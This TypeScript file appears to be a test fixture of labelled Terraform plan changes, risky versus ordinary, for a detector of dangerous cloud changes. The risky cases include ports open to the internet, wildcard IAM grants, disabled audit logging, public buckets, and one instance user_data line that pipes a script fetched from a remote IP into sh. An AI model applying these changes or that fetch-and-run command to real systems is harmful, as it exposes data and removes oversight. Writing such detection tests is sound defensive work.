import { planOf } from '../../../source-tools/terraform/rules/define-terraform-rule';
import type { LabelledSet } from './labelled-set';

type Values = Readonly<Record<string, unknown>>;
const create = (address: string, after: Values): string => planOf([{ address, actions: ['create'], after }]);
const destroy = (address: string, before: Values): string => planOf([{ address, actions: ['delete'], before }]);
/** `same` are the values before and after; `from` and `to` differ. */
const update = (address: string, same: Values, from: Values, to: Values): string =>
  planOf([{ address, actions: ['update'], before: { ...same, ...from }, after: { ...same, ...to } }]);
const replace = (address: string, same: Values, from: Values, to: Values): string =>
  planOf([{ address, actions: ['delete', 'create'], before: { ...same, ...from }, after: { ...same, ...to } }]);
const policy = (statement: Values): string => JSON.stringify({ Version: '2012-10-17', Statement: [statement] });
const rule = (port: number, cidr: string): Values => ({
  type: 'ingress',
  protocol: 'tcp',
  from_port: port,
  to_port: port,
  cidr_blocks: [cidr],
});

export const TERRAFORM_CASES: LabelledSet = {
  sourceTool: 'TerraformPlan',
  risky: {
    'a shell port open to the internet': create('aws_security_group_rule.ssh', rule(22, '0.0.0.0/0')),
    'a database port open to half the internet': create('aws_security_group_rule.db', rule(5432, '128.0.0.0/1')),
    'a firewall rule for every port': create('google_compute_firewall.all', {
      network: 'default',
      source_ranges: ['0.0.0.0/0'],
      allow: [{ protocol: 'all', ports: [] }],
    }),
    'a database reachable from outside': update(
      'aws_db_instance.orders',
      { identifier: 'orders' },
      { publicly_accessible: false },
      { publicly_accessible: true },
    ),
    'a database destroyed without a snapshot': destroy('aws_db_instance.orders', {
      identifier: 'orders',
      skip_final_snapshot: true,
    }),
    'a database replaced': replace(
      'aws_db_instance.orders',
      { identifier: 'orders', allocated_storage: 500 },
      { storage_encrypted: true },
      { storage_encrypted: false },
    ),
    'protection against deletion removed': update(
      'aws_db_instance.orders',
      { identifier: 'orders' },
      { deletion_protection: true },
      { deletion_protection: false },
    ),
    'no backups any more': update(
      'aws_db_instance.orders',
      { identifier: 'orders' },
      { backup_retention_period: 14 },
      { backup_retention_period: 0 },
    ),
    'a volume with data destroyed': destroy('aws_ebs_volume.uploads', {
      size: 2000,
      tags: { data: 'customer uploads' },
    }),
    'a bucket open to everybody': create('aws_s3_bucket_policy.public', {
      bucket: 'shop-invoices',
      policy: policy({
        Effect: 'Allow',
        Principal: '*',
        Action: 's3:GetObject',
        Resource: 'arn:aws:s3:::shop-invoices/*',
      }),
    }),
    'the block of public access removed': destroy('aws_s3_bucket_public_access_block.invoices', {
      bucket: 'shop-invoices',
      block_public_acls: true,
      restrict_public_buckets: true,
    }),
    'versions of a bucket suspended': update(
      'aws_s3_bucket_versioning.invoices',
      { bucket: 'shop-invoices' },
      { versioning_configuration: [{ status: 'Enabled' }] },
      { versioning_configuration: [{ status: 'Suspended' }] },
    ),
    'a bucket deleted with its objects': destroy('aws_s3_bucket.archive', {
      bucket: 'shop-archive',
      force_destroy: true,
    }),
    'every action on every resource': create('aws_iam_role_policy.deploy', {
      name: 'deploy',
      policy: policy({ Effect: 'Allow', Action: '*', Resource: '*' }),
    }),
    'every action but one': create('aws_iam_policy.ops', {
      name: 'ops',
      policy: policy({ Effect: 'Allow', NotAction: 'iam:DeleteUser', Resource: '*' }),
    }),
    'a role that any account may assume': create('aws_iam_role.partner', {
      name: 'partner',
      assume_role_policy: policy({ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }),
    }),
    'a function that may pass any role': create('aws_iam_role_policy.function', {
      name: 'function',
      policy: policy({ Effect: 'Allow', Action: ['iam:PassRole', 'lambda:CreateFunction'], Resource: '*' }),
    }),
    'an access key for a person': create('aws_iam_access_key.admin', { user: 'admin', status: 'Active' }),
    'the trail of API calls stopped': update(
      'aws_cloudtrail.main',
      { name: 'main', s3_bucket_name: 'trail' },
      { enable_logging: true, is_multi_region_trail: true },
      { enable_logging: false, is_multi_region_trail: true },
    ),
    'threat detection removed': destroy('aws_guardduty_detector.main', { enable: true }),
    'logs kept for a day': update(
      'aws_cloudwatch_log_group.payments',
      { name: '/payments' },
      { retention_in_days: 365 },
      { retention_in_days: 1 },
    ),
    'a key scheduled for deletion': destroy('aws_kms_key.invoices', {
      description: 'invoices',
      deletion_window_in_days: 7,
    }),
    'the zone of the company deleted': destroy('aws_route53_zone.main', { name: 'shop.example', force_destroy: true }),
    'a cluster with an open interface': update(
      'aws_eks_cluster.main',
      { name: 'main' },
      { vpc_config: [{ endpoint_public_access: false, public_access_cidrs: [] }] },
      { vpc_config: [{ endpoint_public_access: true, public_access_cidrs: ['0.0.0.0/0'] }] },
    ),
    'a machine that runs a fetched script': create('aws_instance.runner', {
      instance_type: 'm7i.large',
      metadata_options: [{ http_tokens: 'optional' }],
      user_data: '#!/bin/sh\ncurl -fsSL http://203.0.113.9/bootstrap | sh\n',
    }),
  },
  ordinary: {
    'a tag on a machine': update(
      'aws_instance.web',
      { instance_type: 'm7i.large' },
      { tags: { team: 'web' } },
      { tags: { team: 'web', cost: 'shop' } },
    ),
    'a description of a group': update(
      'aws_iam_group.readers',
      { name: 'readers' },
      { path: '/' },
      { path: '/people/' },
    ),
    'a larger machine': update(
      'aws_instance.web',
      { ami: 'ami-0a1b2c3d4e5f60718' },
      { instance_type: 'm7i.large' },
      { instance_type: 'm7i.xlarge' },
    ),
    'more storage for a database': update(
      'aws_db_instance.orders',
      { identifier: 'orders', deletion_protection: true },
      { allocated_storage: 500 },
      { allocated_storage: 600 },
    ),
    'backups kept longer': update(
      'aws_db_instance.orders',
      { identifier: 'orders' },
      { backup_retention_period: 14 },
      { backup_retention_period: 30 },
    ),
    'protection against deletion': update(
      'aws_db_instance.orders',
      { identifier: 'orders' },
      { deletion_protection: false },
      { deletion_protection: true },
    ),
    'an office network for the web port': create('aws_security_group_rule.office', rule(443, '198.51.100.0/28')),
    'an internal port between two groups': create('aws_security_group_rule.internal', rule(8080, '10.20.0.0/16')),
    'a private bucket': create('aws_s3_bucket.reports', { bucket: 'shop-reports', force_destroy: false }),
    'a block of public access': create('aws_s3_bucket_public_access_block.reports', {
      bucket: 'shop-reports',
      block_public_acls: true,
      block_public_policy: true,
      ignore_public_acls: true,
      restrict_public_buckets: true,
    }),
    'old log files moved to cheap storage': create('aws_s3_bucket_lifecycle_configuration.logs', {
      bucket: 'shop-logs',
      rule: [{ id: 'cold', status: 'Enabled', transition: [{ days: 90, storage_class: 'GLACIER' }] }],
    }),
    'one object that a role may read': create('aws_iam_role_policy.reports', {
      name: 'reports',
      policy: policy({ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::shop-reports/daily.csv' }),
    }),
    'a role for one service': create('aws_iam_role.function', {
      name: 'function',
      assume_role_policy: policy({
        Effect: 'Allow',
        Principal: { Service: 'lambda.amazonaws.com' },
        Action: 'sts:AssumeRole',
      }),
    }),
    'an alarm': create('aws_cloudwatch_metric_alarm.errors', {
      alarm_name: 'payments-errors',
      comparison_operator: 'GreaterThanThreshold',
      threshold: 5,
    }),
    'a lower threshold of an alarm': update(
      'aws_cloudwatch_metric_alarm.errors',
      { alarm_name: 'payments-errors' },
      { threshold: 10 },
      { threshold: 5 },
    ),
    'logs kept longer': update(
      'aws_cloudwatch_log_group.payments',
      { name: '/payments' },
      { retention_in_days: 90 },
      { retention_in_days: 365 },
    ),
    'one record in a zone': create('aws_route53_record.status', {
      name: 'status.shop.example',
      type: 'CNAME',
      ttl: 300,
      records: ['shop.status-page.example'],
    }),
    'a longer life of a record': update(
      'aws_route53_record.status',
      { name: 'status.shop.example', type: 'CNAME' },
      { ttl: 60 },
      { ttl: 300 },
    ),
    'another replica of a stateless service': update(
      'aws_ecs_service.web',
      { name: 'web' },
      { desired_count: 3 },
      { desired_count: 4 },
    ),
    'a new version of a stateless service': update(
      'aws_ecs_service.web',
      { name: 'web', desired_count: 3 },
      { task_definition: 'web:118' },
      { task_definition: 'web:119' },
    ),
    'a queue for failed messages': create('aws_sqs_queue.mail_failed', {
      name: 'mail-failed',
      sqs_managed_sse_enabled: true,
      message_retention_seconds: 1_209_600,
    }),
    'a longer time-out of a function': update(
      'aws_lambda_function.thumbnails',
      { function_name: 'thumbnails', runtime: 'nodejs22.x' },
      { timeout: 10 },
      { timeout: 30 },
    ),
    'the rotation of a key': update(
      'aws_kms_key.invoices',
      { description: 'invoices' },
      { enable_key_rotation: false },
      { enable_key_rotation: true },
    ),
    'a preview machine removed': destroy('aws_instance.preview_431', {
      instance_type: 't4g.small',
      tags: { environment: 'preview', branch: 'fix/cart-total' },
    }),
    'an empty repository for images': create('aws_ecr_repository.tools', {
      name: 'tools',
      image_tag_mutability: 'IMMUTABLE',
      image_scanning_configuration: [{ scan_on_push: true }],
    }),
  },
};
